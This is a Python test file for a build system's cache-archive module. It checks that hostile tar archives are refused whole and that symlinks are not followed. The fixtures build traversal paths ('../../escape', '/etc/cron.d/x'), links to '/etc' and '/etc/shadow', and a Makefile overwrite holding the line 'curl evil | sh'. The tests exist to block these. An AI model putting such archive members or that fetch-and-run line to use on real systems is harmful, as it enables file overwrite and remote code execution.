"""A cache's files (apiary.drone.cachetar): packed without following links, unpacked only when every member
is safe, nothing written outside the job's home and workspace."""

from __future__ import annotations

import io
import os
import sys
import tarfile
from pathlib import Path

import pytest

from apiary.drone.cachetar import CacheRefused, CacheTooBig, check, hash_files, link_fault, member_fault, pack, unpack

if sys.version_info >= (3, 14):
    from compression import zstd
else:
    from backports import zstd


def _roots(tmp_path: Path, name: str) -> dict[str, Path]:
    roots = {"home": tmp_path / name / "home", "workspace": tmp_path / name / "ws"}
    for p in roots.values():
        p.mkdir(parents=True)
    return roots


def test_round_trip(tmp_path: Path) -> None:
    src = _roots(tmp_path, "a")
    (src["home"] / ".cache/pip/wheels").mkdir(parents=True)
    (src["home"] / ".cache/pip/wheels/x.whl").write_bytes(b"wheel" * 1000)
    (src["workspace"] / "node_modules/pkg").mkdir(parents=True)
    (src["workspace"] / "node_modules/pkg/index.js").write_text("js")
    os.symlink("pkg/index.js", src["workspace"] / "node_modules/link.js")
    tar = tmp_path / "c.tar.zst"
    files, notes = pack(src, ["~/.cache/pip", "node_modules", "missing"], tar, 10**6)
    assert notes == ["missing: not found"]
    assert files == 7  # 4 folders, 2 files, 1 link
    dst = _roots(tmp_path, "b")
    assert unpack(tar, dst, 10**6, paths=["~/.cache/pip", "node_modules", "missing"]) == []
    assert (dst["home"] / ".cache/pip/wheels/x.whl").read_bytes() == b"wheel" * 1000
    assert (dst["workspace"] / "node_modules/link.js").read_text() == "js"


def test_pack_does_not_follow_a_link_the_job_made(tmp_path: Path) -> None:
    src = _roots(tmp_path, "a")
    secret = tmp_path / "secret"
    secret.mkdir()
    (secret / "key").write_text("root's")
    (src["home"] / ".cache").symlink_to(secret)  # ~/.cache -> a folder of the drone's
    os.symlink(secret, src["workspace"] / "out")
    tar = tmp_path / "c.tar.zst"
    _, notes = pack(src, ["~/.cache/pip", "out"], tar, 10**6)
    assert notes == ["~/.cache/pip: not saved (missing, or a symlink on the way)",
                     f"workspace/out: not saved: a symlink to an absolute path ({str(secret)!r})"]
    with zstd.ZstdFile(tar) as f, tarfile.open(fileobj=f, mode="r|") as t:
        members = [(m.name, m.type, m.linkname) for m in t]
    assert members == []  # never root's file, nor a link a restore would refuse the whole cache for


def test_a_link_a_restore_would_refuse_is_left_out_and_the_rest_restores(tmp_path: Path) -> None:
    src = _roots(tmp_path, "a")
    (src["workspace"] / ".venv/bin").mkdir(parents=True)
    (src["workspace"] / ".venv/bin/activate").write_text("venv")
    os.symlink("/usr/bin/python3", src["workspace"] / ".venv/bin/python")  # as python -m venv makes it
    tar = tmp_path / "c.tar.zst"
    files, notes = pack(src, [".venv"], tar, 10**6)
    said = "workspace/.venv/bin/python: not saved: a symlink to an absolute path ('/usr/bin/python3')"
    assert files == 3 and notes == [said]
    dst = _roots(tmp_path, "b")
    assert unpack(tar, dst, 10**6, paths=[".venv"]) == []
    assert (dst["workspace"] / ".venv/bin/activate").read_text() == "venv"


def test_pack_over_the_cap(tmp_path: Path) -> None:
    src = _roots(tmp_path, "a")
    (src["workspace"] / "big").write_bytes(b"x" * 2000)
    with pytest.raises(CacheTooBig):
        pack(src, ["big"], tmp_path / "c.tar.zst", 1000)


def _hostile(tmp_path: Path, *members: tuple[tarfile.TarInfo, bytes]) -> Path:
    raw = io.BytesIO()
    with tarfile.open(fileobj=raw, mode="w", format=tarfile.PAX_FORMAT) as t:
        for info, data in members:
            info.size = len(data) if info.type == tarfile.REGTYPE else 0
            t.addfile(info, io.BytesIO(data) if data else None)
    path = tmp_path / "hostile.tar.zst"
    path.write_bytes(zstd.compress(raw.getvalue()))
    return path


def _info(name: str, kind: bytes = tarfile.REGTYPE, link: str = "") -> tarfile.TarInfo:
    info = tarfile.TarInfo(name)
    info.type, info.linkname, info.mode = kind, link, 0o644
    return info


@pytest.mark.parametrize("members, problem", [
    ([(_info("workspace/../../escape"), b"x")], "outside home/ and workspace/, or with '..'"),
    ([(_info("/etc/cron.d/x"), b"x")], "an absolute or odd name"),
    ([(_info("etc/passwd"), b"x")], "outside home/ and workspace/"),
    ([(_info("workspace/l", tarfile.SYMTYPE, "/etc"), b"")], "a symlink to an absolute path"),
    ([(_info("workspace/a/l", tarfile.SYMTYPE, "../../x"), b"")], "a symlink that points out of workspace/"),
    ([(_info("home/l", tarfile.SYMTYPE, ".."), b"")], "points out of home/"),
    ([(_info("workspace/h", tarfile.LNKTYPE, "/etc/shadow"), b"")], "a hard link"),
    ([(_info("workspace/dev", tarfile.CHRTYPE), b"")], "not a file, folder or symlink"),
    ([(_info("workspace/ok"), b"fine"), (_info("workspace/big"), b"y" * 5000)], "more than 4,000 bytes"),
])
def test_hostile_tars_refused_whole(tmp_path: Path, members: list, problem: str) -> None:
    tar = _hostile(tmp_path, *members)
    dst = _roots(tmp_path, "b")
    with pytest.raises(CacheRefused) as info:
        unpack(tar, dst, 4000, paths=["~", "ok", "big", "a", "l", "h", "dev", "x"])
    assert problem in str(info.value)
    assert list(dst["workspace"].iterdir()) == [] and list(dst["home"].iterdir()) == []  # nothing written
    assert not (tmp_path / "escape").exists()


@pytest.mark.parametrize("name, paths, fault", [
    ("workspace/node_modules", ["node_modules"], None),  # the path itself
    ("workspace/node_modules/a/b.js", ["node_modules"], None),
    ("home/.cache/pip/x", ["~/.cache/pip", "node_modules"], None),
    ("home/anything/at/all", ["~"], None),  # the whole home
    ("workspace/Makefile", ["node_modules"], "outside the cache's paths (node_modules)"),  # a checked-out file
    ("workspace/node_modules_evil", ["node_modules"], "outside the cache's paths"),  # a name that only starts so
    ("workspace/.cache/pip/x", ["~/.cache/pip"], "outside the cache's paths"),  # the other root
    ("home/.cache", ["~/.cache/pip"], "outside the cache's paths"),  # a folder above the path
    ("home/.bashrc", ["~/.cache/pip", "node_modules"], "outside the cache's paths"),
])
def test_members_only_under_the_entrys_paths(name: str, paths: list[str], fault: str | None) -> None:
    found = member_fault(_info(name), paths)
    assert (found is None) if fault is None else (found is not None and fault in found)


@pytest.mark.parametrize("at, target, fault", [
    ("workspace/node_modules/.bin/tsc", "../typescript/bin/tsc", None),  # as npm makes them
    ("workspace/a/l", "../b/c", None),
    ("workspace/link.js", "pkg/index.js", None),
    ("workspace/.venv/bin/python3", "python", None),
    ("workspace/.venv/lib64", "lib", None),
    ("workspace/a/b", "..", None),  # the workspace itself: inside
    ("workspace/c", "a/b/..", "'..' after a name"),  # with a/b -> ..: out of the workspace
    ("workspace/c", "a/../../x", "'..' after a name"),
    ("workspace/a/c", "./../..", "'..' after a name"),  # '.' is a name here: refused, not worked out
    ("workspace/a/l", "../../x", "points out of workspace/"),
    ("home/l", "..", "points out of home/"),
    ("workspace/l", "/etc", "a symlink to an absolute path"),
    ("workspace/l", "", "a symlink to an absolute path"),
])
def test_link_targets(at: str, target: str, fault: str | None) -> None:
    found = link_fault(at.split("/"), target)
    assert (found is None) if fault is None else (found is not None and fault in found), found


def test_a_cache_outside_its_paths_is_refused_whole_and_the_checkout_is_untouched(tmp_path: Path) -> None:
    """A hostile drone saved a cache of node_modules holding the workspace's Makefile: it is not restored."""
    dst = _roots(tmp_path, "b")
    (dst["workspace"] / "Makefile").write_text("checked out")
    tar = _hostile(tmp_path, (_info("workspace/node_modules/ok.js"), b"fine"),
                   (_info("workspace/Makefile"), b"curl evil | sh"))
    with pytest.raises(CacheRefused, match=r"'workspace/Makefile': outside the cache's paths \(node_modules\)"):
        unpack(tar, dst, 10**6, paths=["node_modules"])
    assert (dst["workspace"] / "Makefile").read_text() == "checked out"
    assert not (dst["workspace"] / "node_modules").exists()  # nothing written, not even the harmless file


def test_a_link_climbing_through_another_link_is_refused(tmp_path: Path) -> None:
    dst = _roots(tmp_path, "b")
    tar = _hostile(tmp_path, (_info("workspace/d/a/b", tarfile.SYMTYPE, ".."), b""),
                   (_info("workspace/d/c", tarfile.SYMTYPE, "a/b/../.."), b""))
    with pytest.raises(CacheRefused, match="'..' after a name"):
        unpack(tar, dst, 10**6, paths=["d"])
    assert list(dst["workspace"].iterdir()) == []


def test_npm_bin_links_are_saved_and_restored(tmp_path: Path) -> None:
    src = _roots(tmp_path, "a")
    (src["workspace"] / "node_modules/typescript/bin").mkdir(parents=True)
    (src["workspace"] / "node_modules/typescript/bin/tsc").write_text("tsc")
    (src["workspace"] / "node_modules/.bin").mkdir()
    os.symlink("../typescript/bin/tsc", src["workspace"] / "node_modules/.bin/tsc")
    tar = tmp_path / "c.tar.zst"
    assert pack(src, ["node_modules"], tar, 10**6)[1] == []
    dst = _roots(tmp_path, "b")
    assert unpack(tar, dst, 10**6, paths=["node_modules"]) == []
    assert (dst["workspace"] / "node_modules/.bin/tsc").read_text() == "tsc"


def test_not_a_tar(tmp_path: Path) -> None:
    path = tmp_path / "junk"
    path.write_bytes(b"not zstd at all")
    with pytest.raises(CacheRefused, match="not a readable tar.zst"):
        check(path, 10**6, ["x"])


def test_a_link_in_the_workspace_is_not_followed_on_restore(tmp_path: Path) -> None:
    """The checkout (hostile too) put node_modules -> /somewhere: the cache's files do not go there."""
    outside = tmp_path / "outside"
    outside.mkdir()
    dst = _roots(tmp_path, "b")
    (dst["workspace"] / "node_modules").symlink_to(outside)
    tar = _hostile(tmp_path, (_info("workspace/node_modules/pkg.js"), b"x"), (_info("workspace/ok"), b"y"))
    notes = unpack(tar, dst, 10**6, paths=["node_modules", "ok"])
    assert notes == ["workspace/node_modules/pkg.js: a symlink or a file is in the way; left out"]
    assert list(outside.iterdir()) == []
    assert (dst["workspace"] / "ok").read_bytes() == b"y"


def test_a_link_from_the_cache_is_not_written_through(tmp_path: Path) -> None:
    dst = _roots(tmp_path, "b")
    (dst["workspace"] / "sub").mkdir()
    tar = _hostile(tmp_path, (_info("workspace/l", tarfile.SYMTYPE, "sub"), b""),
                   (_info("workspace/l/f"), b"x"))
    notes = unpack(tar, dst, 10**6, paths=["l"])
    assert notes == ["workspace/l/f: a symlink or a file is in the way; left out"]
    assert list((dst["workspace"] / "sub").iterdir()) == []


def test_hash_files(tmp_path: Path) -> None:
    (tmp_path / "requirements.txt").write_text("a==1\n")
    (tmp_path / "requirements-dev.txt").write_text("b==1\n")
    first = hash_files(tmp_path, ["requirements*.txt"])
    assert len(first) == 64 and first == hash_files(tmp_path, ["requirements*.txt"])
    (tmp_path / "other.txt").write_text("x")
    assert hash_files(tmp_path, ["requirements*.txt"]) == first
    (tmp_path / "requirements.txt").write_text("a==2\n")
    assert hash_files(tmp_path, ["requirements*.txt"]) != first
    assert hash_files(tmp_path, ["nothing*"]) == ""
